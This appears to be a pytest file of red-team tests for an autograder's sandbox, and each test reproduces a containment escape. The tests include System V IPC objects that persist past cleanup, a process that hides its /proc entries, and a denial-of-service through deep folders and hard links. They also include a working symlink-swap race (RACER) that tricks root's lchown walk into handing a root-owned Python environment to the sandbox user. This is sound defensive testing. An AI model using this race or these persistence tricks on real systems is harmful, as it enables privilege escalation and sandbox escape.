"""Red team, round 3 (issue 28's containment): holes found by a hostile student, each a minimal
reproduction. Marked `xfail(strict=True)` while the hole is open, so fixing it turns the test
into an unexpected pass: then drop the mark. Unmarked tests guard tricks that failed and that a
plausible refactor could reopen.

All need root (the sandbox users exist only when the grader runs as root).
"""

from __future__ import annotations

import ctypes
import os
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pytest

from lib.grading import kernel_users, sandbox
from lib.grading.one_submission import Settings, _Box

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (sandbox users)")
UID = kernel_users.FIRST_UID + 990  # far from the users a grader running beside us claims first


@pytest.fixture
def shared_tmp():
    """A temporary folder the sandbox user can reach (pytest's tmp_path is private to root)."""
    folder = Path(tempfile.mkdtemp(prefix="red-team-"))
    folder.chmod(0o755)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def as_sandbox_user(code: str, **kwargs) -> subprocess.Popen:
    """`code` run by this Python as the sandbox user `UID`, as a kernel runs."""
    return subprocess.Popen([*kernel_users.become(UID), sys.executable, "-c", code], **kwargs)


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="ctypes calls of x86_64 Linux")
def test_reap_leaves_no_system_v_shared_memory_for_the_next_student():
    """Without namespaces (Gradescope) a kernel shares the machine's System V IPC: a segment it
    made (here 1 MB, mode 0600) outlived reap, and the next kernel of that uid found it."""
    key = 0x7ED28 + os.getpid() % 1000
    plant = f"import ctypes; print(ctypes.CDLL(None).shmget({key}, 1 << 20, 0o1600))"
    made = as_sandbox_user(plant, stdout=subprocess.PIPE, text=True).communicate(timeout=30)[0]
    assert int(made) >= 0
    try:
        sandbox.reap(UID)
        look = f"import ctypes; print(ctypes.CDLL(None).shmget({key}, 0, 0))"
        found = as_sandbox_user(look, stdout=subprocess.PIPE, text=True).communicate(timeout=30)[0]
        assert int(found) == -1, "the next kernel of this user still finds the segment"
    finally:
        libc = ctypes.CDLL(None)
        shmid = libc.shmget(key, 0, 0)
        if shmid >= 0:
            libc.shmctl(shmid, 0, None)  # IPC_RMID


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="ctypes calls of x86_64 Linux")
def test_reap_leaves_no_system_v_semaphores_or_message_queues_either():
    """The other two System V kinds, one of them handed to another user (IPC_SET): its creator
    may still remove it, so reap must look at the creator too."""
    key = 0x8ED28 + os.getpid() % 1000
    plant = (
        "import ctypes, struct\n"
        "libc = ctypes.CDLL(None)\n"
        f"sem, msg = libc.semget({key}, 1, 0o1600), libc.msgget({key}, 0o1600)\n"
        "ds = ctypes.create_string_buffer(256)\n"
        "libc.msgctl(msg, 2, ds)\n"  # IPC_STAT, then IPC_SET with another owner
        f"struct.pack_into('I', ds, 4, {UID + 1})\n"  # ipc_perm: key, then uid
        "print(sem, msg, libc.msgctl(msg, 1, ds))"
    )
    made = as_sandbox_user(plant, stdout=subprocess.PIPE, text=True).communicate(timeout=30)[0]
    assert [int(n) >= 0 for n in made.split()] == [True, True, True]
    libc = ctypes.CDLL(None)
    try:
        sandbox.reap(UID)
        assert (libc.semget(key, 0, 0), libc.msgget(key, 0, 0)) == (-1, -1)
    finally:  # whatever reap left
        subprocess.run(["ipcrm", "-S", str(key), "-Q", str(key)], capture_output=True, check=False)


def test_reap_kills_a_process_that_hides_its_proc_files_from_its_user():
    """prctl(PR_SET_DUMPABLE, 0) makes /proc/<pid>/* (not /proc/<pid> itself) owned by root:
    a reap that looked at /proc/<pid>/status or /proc/<pid>/stat would miss the process."""
    hide = (
        "import ctypes, os, time\n"
        "ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n"
        "if os.fork() == 0:\n"
        "    os.setsid(); ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); time.sleep(120)\n"
        "time.sleep(120)\n"
    )
    process = as_sandbox_user(hide)
    time.sleep(1)
    try:
        sandbox.reap(UID)
        time.sleep(0.2)
        assert process.poll() is not None
        assert sandbox.processes_of(UID) == []
    finally:
        process.kill()
        sandbox.reap(UID)


# Runs as the sandbox user, as a daemon a first kernel left behind (no namespaces: Gradescope).
# Under runtime/: a deep folder (each of root's lchown calls then walks ~500 components) holding
# K copies ("mirrors") of the target's names and K symbolic links to the target. When root's walk
# reaches a mirror (the ctime of its first entry changes), the daemon swaps it with its link
# (renameat2 RENAME_EXCHANGE): root's next lchown calls resolve through the link, into the target,
# and os.walk then descends into the target's real folders.
RACER = r"""
import ctypes, os, sys, time
runtime, target = sys.argv[1], sys.argv[2]
libc = ctypes.CDLL(None, use_errno=True)
for r in range(2):
    d = os.open(runtime, os.O_RDONLY)
    os.mkdir(f"deep{r}", dir_fd=d)
    for name in [f"deep{r}"] + ["d"] * 500:
        if name == "d":
            os.mkdir("d", dir_fd=d)
        nd = os.open(name, os.O_RDONLY, dir_fd=d); os.close(d); d = nd
    names = list(os.scandir(target))
    watch = []
    for k in range(10):
        os.mkdir(f"B{k}", dir_fd=d)
        b = os.open(f"B{k}", os.O_RDONLY, dir_fd=d)
        for e in names:
            if e.is_dir(follow_symlinks=False):
                os.mkdir(e.name, dir_fd=b)
            else:
                os.close(os.open(e.name, os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=b))
        os.symlink(target, f"L{k}", dir_fd=d)
        first = next(e.name for e in os.scandir(b) if e.is_dir(follow_symlinks=False))
        watch.append((k, b, first, os.stat(first, dir_fd=b).st_ctime_ns))
    open(os.path.join(runtime, f"ready{r}"), "w").close()
    end = time.monotonic() + 60
    while watch and time.monotonic() < end:
        for w in list(watch):
            k, b, first, base = w
            if os.stat(first, dir_fd=b, follow_symlinks=False).st_ctime_ns != base:
                libc.syscall(316, d, f"B{k}".encode(), d, f"L{k}".encode(), 2)
                watch.remove(w)
    time.sleep(1)
"""


@pytest.mark.skipif(os.uname().machine != "x86_64", reason="renameat2's number on x86_64")
@pytest.mark.xfail(
    strict=True,
    reason="red team: give_to (root's lchown walk of runtime/ at each kernel restart) races a "
    "daemon of the kernel's user, which swaps a folder for a link mid-walk: root then hands "
    "the grader's Python environment (or lib, or /autograder/results) to the sandbox user",
)
def test_a_kernel_restart_never_hands_a_folder_outside_runtime_to_the_sandbox_user(shared_tmp):
    """Seen end to end through the Gradescope entry point without namespaces: a lesson 3
    notebook whose kernel dies twice got /autograder/venv's site-packages chowned to its user,
    appended code to plotly/__init__.py, and root ran it when the class chart was drawn."""
    tmp_path = shared_tmp
    target = tmp_path / "site-packages"  # stands for the grader's environment, root's own
    for i in range(150):
        (target / f"pkg{i}").mkdir(parents=True)
        (target / f"mod{i}.py").write_text("")
    (target / "pkg0" / "__init__.py").write_text("")
    runtime = tmp_path / "kernel" / "runtime"
    runtime.mkdir(parents=True)
    os.chmod(tmp_path / "kernel", 0o711)
    sandbox.give_to(UID, runtime)  # the first kernel start
    daemon = subprocess.Popen(
        [*kernel_users.become(UID), sys.executable, "-c", RACER, str(runtime), str(target)]
    )
    try:
        for r in range(2):  # two restarts, as a notebook whose kernel dies twice gets
            for _ in range(600):
                if (runtime / f"ready{r}").exists() or daemon.poll() is not None:
                    break
                time.sleep(0.05)
            sandbox.give_to(UID, runtime)  # a restart: root hands runtime/ over again
            time.sleep(0.5)
        owners = {p.stat().st_uid for p in target.rglob("*")} | {target.stat().st_uid}
    finally:
        daemon.kill()
        sandbox.reap(UID)
        subprocess.run(["chown", "-R", "root:root", str(target)], check=False)
    assert owners == {0}, "root handed files outside runtime/ to the sandbox user"


@pytest.mark.xfail(
    strict=True,
    reason="red team: root's walk of runtime/ at a kernel restart runs in the grader's event "
    "loop, unbounded: a kernel that fills runtime/ (deep folders, hard links) and dies twice "
    "stalls every notebook of the batch",
)
def test_a_kernel_restart_costs_the_event_loop_little_whatever_runtime_holds(shared_tmp):
    """Seen end to end (bubblewrap, `--jobs 3 --notebook-timeout 40`): a lesson 1 notebook
    whose kernel filled runtime/ with 20,000 empty folders and 100,000 hard links 850 folders
    deep, then died twice, took two fully solved lesson 1 neighbours from 8/8 to 0/8 ("ran
    longer than 60 s and ignored the interrupt, so the kernel was killed")."""
    tmp = shared_tmp / "course-grade-x"
    (tmp / "work").mkdir(parents=True)
    runtime = tmp / "runtime"
    runtime.mkdir()
    folder = os.open(runtime, os.O_RDONLY)
    for _ in range(850):  # what the kernel made, as its own user could
        os.mkdir("d", dir_fd=folder)
        deeper = os.open("d", os.O_RDONLY, dir_fd=folder)
        os.close(folder)
        folder = deeper
    os.close(os.open("s", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder))
    for i in range(20_000):
        os.link("s", f"l{i}", src_dir_fd=folder, dst_dir_fd=folder)
    os.close(folder)
    box = _Box(Settings(), tmp, UID)

    started = time.monotonic()
    box(["python", "-m", "ipykernel_launcher"])  # called by format_kernel_cmd, in the event loop
    stalled = time.monotonic() - started
    assert stalled < 0.5, f"a kernel restart held the grader's event loop for {stalled:.1f} s"
